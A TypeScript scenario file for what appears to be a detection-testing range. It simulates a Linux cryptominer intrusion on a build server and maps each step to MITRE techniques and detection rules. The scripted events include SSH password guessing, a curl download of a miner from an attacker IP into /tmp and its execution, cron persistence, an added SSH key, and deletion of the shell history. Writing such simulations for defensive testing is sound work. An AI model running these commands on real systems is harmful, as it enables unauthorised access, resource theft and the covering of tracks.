import type { Story } from '#engine/range/story.ts';

const from = '203.0.113.61';
const tried = [
  'admin',
  'test',
  'oracle',
  'git',
  'postgres',
  'ubuntu',
  'root',
  'deploy',
  'jenkins',
  'build',
  'ci',
  'dev',
];

export const linuxMiner: Story = {
  title: 'A guessed password on the build server, and somebody else’s coins made with our power.',
  truth: 'intrusion',
  why: 'deploy had a password that can be guessed; a miner runs on build01 and comes back by cron.',
  steps: [
    {
      minute: 0,
      technique: 'T1110.001',
      what: 'Guesses until it fits.',
      rules: ['ssh-password-guessed'],
      play: (scene) => {
        for (const name of tried)
          scene.sshd('build01', `Failed password for invalid user ${name} from ${from} port 40022 ssh2`);
        scene.sshd('build01', `Accepted password for deploy from ${from} port 40188 ssh2`);
      },
    },
    {
      minute: 2,
      technique: 'T1105',
      what: 'Fetches the miner to /tmp and runs it.',
      rules: [
        'file-fetched-to-world-writable-folder',
        'program-run-from-world-writable-folder',
        'crypto-miner-started',
      ],
      play: (scene) => {
        scene.exec('build01', 'deploy', ['curl', '-fsSL', `http://${from}/x`, '-o', '/tmp/.x/kworkerd']);
        scene.exec('build01', 'deploy', [
          '/tmp/.x/kworkerd',
          '-o',
          'stratum+tcp://pool.minexmr.example:4444',
          '-u',
          '48abc',
        ]);
      },
    },
    {
      minute: 3,
      technique: 'T1053.003',
      what: 'Comes back by cron.',
      rules: ['cron-table-replaced-by-command'],
      play: (scene) => scene.exec('build01', 'deploy', ['crontab', '/tmp/.x/c']),
    },
    {
      minute: 5,
      technique: 'T1098.004',
      what: 'Adds a key of their own.',
      rules: ['ssh-key-added-by-command'],
      play: (scene) => scene.exec('build01', 'deploy', ['tee', '-a', '/home/deploy/.ssh/authorized_keys']),
    },
    {
      minute: 8,
      technique: 'T1070.003',
      what: 'Wipes the history of the shell.',
      rules: ['shell-history-removed'],
      play: (scene) => scene.exec('build01', 'deploy', ['rm', '-f', '/home/deploy/.bash_history']),
    },
    {
      minute: 9,
      technique: 'T1496.001',
      what: 'The pool is asked for by name.',
      rules: ['mining-pool-asked-for'],
      play: (scene) =>
        scene.zeek('dns', '10.20.0.61', '10.20.0.5', {
          query: 'pool.minexmr.example',
          qtype_name: 'A',
          rcode_name: 'NOERROR',
        }),
    },
  ],
};
